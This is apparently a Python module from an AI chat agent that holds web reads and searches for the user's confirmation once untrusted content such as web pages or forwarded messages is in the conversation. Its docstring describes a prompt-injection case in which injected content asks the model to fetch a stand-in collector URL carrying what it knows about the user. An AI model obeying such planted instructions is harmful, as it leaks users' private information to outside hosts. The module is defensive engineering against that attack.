"""Where web calls may go once untrusted content is in view.

A page, a document or a forwarded message can ask the model to call
`web_read("https://collector.example/c?d=<what you know about the user>")`: a read is a message
to that host, and a search is a message to the search engine (and on to its engines). So once
untrusted content is in view in a turn (agent/untrusted.py), a `web_read` runs at once only when
its origin (scheme, host, port) is one the user's own messages name, or one of this turn's
search results; any other read, and every `web_search`, waits for the asker's ✅ like a held
write (agent/tools/held.py). Before such content is in view nothing waits: the model's choice
of address is then its own reading of the user's words.

A link in the user's words counts with or without its scheme ("example.org/menu" names both
http and https on their default ports, as `with_scheme` reads it for a fetch).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any
from urllib.parse import urlsplit

from agent.tools.held import CallHooks, Description, HeldFamily, InView, outward_family
from agent.tools.memory import ToolOutcome
from agent.tools.web import UNTRUSTED_NOTE, WEB_TOOL_NAMES, WebTools
from agent.untrusted import own_words
from memory.store import StoredMessage
from web.fetch import with_scheme

Origin = tuple[str, str, int]

WEB_HELD_NOTE = (
    "not run yet: this conversation holds content that is not the user's own words (a web "
    "page, search results, a document, or a forwarded or quoted message), and this call would "
    "send words out of the bot to an address the user did not give, so it waits for the user's "
    "confirmation. The user is shown exactly what would be fetched or searched, with a ✅ and a "
    "❌ button; nothing is sent unless they press ✅, and then its result is added to this "
    "conversation. Do not say you read or searched it; say it waits for their ✅."
)
_DEFAULT_PORTS = {"http": 80, "https": 443}
# A whitespace-separated word of the user's text that is a link: with a scheme, or a host name
# with a dot or an IPv4 address (optionally a port and a path). Surrounding brackets and
# punctuation are trimmed.
_TRIM = "<>()[]{}\"'`«»“”‘’.,;:!?"
_BARE_HOST = re.compile(
    r"(?:(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,62}|\d{1,3}(?:\.\d{1,3}){3})"
    r"(?::\d{1,5})?(?:[/?#].*)?",
    re.IGNORECASE,
)
# Characters of a URL or query shown in the ✅ message: a URL is shown whole up to this, so the
# user sees what would be sent; a longer one is cut, its length said.
SHOWN_CHARS = 1500


def origin_of(url: str) -> Origin | None:
    """(scheme, host, port) of an http(s) URL, the host lower-cased and in ASCII; else None."""
    try:
        parts = urlsplit(url.strip())
        port = parts.port
    except ValueError:
        return None
    scheme = parts.scheme.lower()
    host = (parts.hostname or "").rstrip(".")
    if scheme not in _DEFAULT_PORTS or not host:
        return None
    try:
        host = host.encode("idna").decode("ascii")
    except UnicodeError:
        pass
    return scheme, host.lower(), port or _DEFAULT_PORTS[scheme]


def origins_in(text: str) -> set[Origin]:
    """The origins of the links in `text`."""
    found: set[Origin] = set()
    for word in text.split():
        word = word.strip(_TRIM)
        if "://" in word:
            origin = origin_of(word)
            if origin is not None:
                found.add(origin)
        elif "@" not in word and _BARE_HOST.fullmatch(word):
            for scheme in _DEFAULT_PORTS:
                origin = origin_of(f"{scheme}://{word}")
                if origin is not None:
                    found.add(origin)
    return found


def user_origins(messages: Iterable[StoredMessage], included: frozenset[int]) -> set[Origin]:
    """The origins the user's own messages in the prompt name."""
    found: set[Origin] = set()
    for text in own_words(messages, included):
        found |= origins_in(text)
    return found


def link_origins(outcome: ToolOutcome) -> set[Origin]:
    """The origins of the links a tool result offers for a read (a search's results)."""
    return {origin for link in outcome.links if (origin := origin_of(link)) is not None}


def _waits(name: str, args: dict[str, Any], view: InView) -> bool:
    if not view.untrusted:
        return False
    if name != "web_read":
        return True  # a search's query leaves the bot whatever it asks for
    url = args.get("url")
    if not isinstance(url, str):
        return False  # the tool refuses it, nothing leaves
    return origin_of(with_scheme(url)) not in view.origins


def _check(name: str, args: dict[str, Any]) -> str | None:
    if name == "web_read":
        url = args.get("url")
        if not isinstance(url, str) or not url.strip():
            return "web_read needs a string 'url'"
        if origin_of(with_scheme(url)) is None:
            return "web_read needs an http or https URL with a host"
        return None
    query = args.get("query")
    if not isinstance(query, str) or not query.strip():
        return "web_search needs a string 'query'"
    return None


def _shown(value: object) -> str:
    text = " ".join(str(value).split())
    if len(text) <= SHOWN_CHARS:
        return text
    return f"{text[:SHOWN_CHARS]}… ({len(text):,} characters)"


def _describe(name: str, args: dict[str, Any]) -> Description:
    if name == "web_read":
        return "held_web_read", {"url": _shown(with_scheme(str(args.get("url", ""))))}
    return "held_web_search", {"query": _shown(args.get("query", ""))}


def _result_shown(outcome: ToolOutcome) -> str:
    """A read's or search's result without the note that frames it for the model."""
    return outcome.content.removeprefix(UNTRUSTED_NOTE).strip()


def web_family(web: WebTools) -> HeldFamily:
    """web_read and web_search as a held family: run on ✅ through the same WebTools (the daily
    cap and the usage ledger count it then), the result kept in the session as a web result."""
    hooks = CallHooks(
        WEB_TOOL_NAMES.__contains__, _waits, _check, WEB_HELD_NOTE, _describe, _result_shown
    )
    return outward_family("web", web, hooks)
